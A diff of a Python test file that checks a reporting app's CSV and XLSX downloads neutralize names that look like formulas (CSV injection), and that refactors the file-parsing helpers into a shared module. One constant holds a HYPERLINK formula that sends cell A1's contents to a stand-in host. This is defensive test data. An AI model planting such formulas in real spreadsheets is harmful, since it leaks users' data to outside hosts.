@@ -1,19 +1,17 @@
 """Text a user typed never runs as a formula in a CSV or XLSX download (OWASP, CSV injection);
 numbers stay numbers."""
 
-import csv
 import datetime as dt
-import io
 from decimal import Decimal
 from typing import Any
 
 import httpx
-from openpyxl import load_workbook
 from sqlalchemy.ext.asyncio import AsyncSession
 
 from app.models import Metric, Target, TargetScope
 from app.reports.export import neutralize_formula
 from tests.fixtures.registry import ZoneFactory
+from tests.reports.files import csv_table, xlsx_tables
 
 AS_OF = {"as_of": "2024-06-30"}
 HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
@@ -55,27 +53,9 @@ async def _targets_named(editor: httpx.AsyncClient, session: AsyncSession) -> No
 
 
 async def _download(client: httpx.AsyncClient, path: str, fmt: str) -> bytes:
-    response = await client.get(f"/api/v1/reports/{path}", params=AS_OF | {"format": fmt})
+    response = await client.get(f"/api/v1/reports/{path}.{fmt}", params=AS_OF)
     assert response.status_code == 200, response.text
     return response.content
-
-
-def _csv_rows(content: bytes) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
-
-
-def _xlsx_cells(content: bytes) -> dict[str, list[list[Any]]]:
-    """Every sheet's values, after checking that no cell of any sheet is a formula."""
-    book = load_workbook(io.BytesIO(content))
-    sheets: dict[str, list[list[Any]]] = {}
-    for sheet in book.worksheets:
-        rows = []
-        for row in sheet.iter_rows():
-            for cell in row:
-                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
-            rows.append([cell.value for cell in row])
-        sheets[sheet.title] = rows
-    return sheets
 
 
 def _assert_neutralized(texts: list[Any], names: tuple[str, ...]) -> None:
@@ -92,17 +72,17 @@ async def test_attainment_downloads_keep_formula_like_names_as_text(
 ) -> None:
     await _targets_named(editor, session)
 
-    rows = _csv_rows(await _download(editor, "attainment", "csv"))
-    header, body = rows[0], rows[1:]
+    table = csv_table(await _download(editor, "attainment", "csv"))
+    header, body = table.header, table.rows
     assert len(body) == len(DANGEROUS)
-    _assert_neutralized([cell for row in rows for cell in row], DANGEROUS)
+    _assert_neutralized([cell for row in body for cell in row], DANGEROUS)
     actual, target = header.index("Thực hiện"), header.index("Chỉ tiêu")
     assert {(row[actual], row[target]) for row in body} == {("0", "4")}
 
-    [sheet] = _xlsx_cells(await _download(editor, "attainment", "xlsx")).values()
-    columns, cells = sheet[0], sheet[1:]
+    [sheet] = xlsx_tables(await _download(editor, "attainment", "xlsx")).values()
+    columns, cells = sheet.header, sheet.rows
     assert len(cells) == len(DANGEROUS)
-    _assert_neutralized([cell for row in sheet for cell in row], DANGEROUS_XML)
+    _assert_neutralized([cell for row in cells for cell in row], DANGEROUS_XML)
     actual, target = columns.index("Thực hiện"), columns.index("Chỉ tiêu")
     expected = columns.index("Theo tiến độ")
     for cell_row in cells:
@@ -119,20 +99,20 @@ async def test_overview_downloads_keep_formula_like_names_as_text(
     for n, name in enumerate(DANGEROUS):
         await make_zone(code=f"Z{n}", name=name)
 
-    rows = _csv_rows(await _download(editor, "overview", "csv"))
+    rows = csv_table(await _download(editor, "overview", "csv")).rows
     _assert_neutralized([cell for row in rows for cell in row], DANGEROUS)
     by_zone = [row for row in rows if row[1].startswith("'")]
     assert len(by_zone) == len(DANGEROUS)
     assert {row[2] for row in by_zone} == {"0"}
-    values = {row[1]: row[2] for row in rows[1:]}
+    values = {row[1]: row[2] for row in rows}
     assert values["KCN đang hoạt động"] == str(len(DANGEROUS))
 
-    overview, targets = _xlsx_cells(await _download(editor, "overview", "xlsx")).values()
-    _assert_neutralized([cell for row in overview for cell in row], DANGEROUS_XML)
-    _assert_neutralized([cell for row in targets for cell in row], DANGEROUS_XML)
-    figures = {row[1]: row[2] for row in overview[1:]}
+    overview, targets = xlsx_tables(await _download(editor, "overview", "xlsx")).values()
+    _assert_neutralized([cell for row in overview.rows for cell in row], DANGEROUS_XML)
+    _assert_neutralized([cell for row in targets.rows for cell in row], DANGEROUS_XML)
+    figures = {row[1]: row[2] for row in overview.rows}
     assert figures["KCN đang hoạt động"] == len(DANGEROUS)
-    assert all(isinstance(row[2], int | float) for row in overview[1:] if row[2] is not None)
+    assert all(isinstance(row[2], int | float) for row in overview.rows if row[2] is not None)
 
 
 def test_formula_like_text_gets_a_leading_quote() -> None:
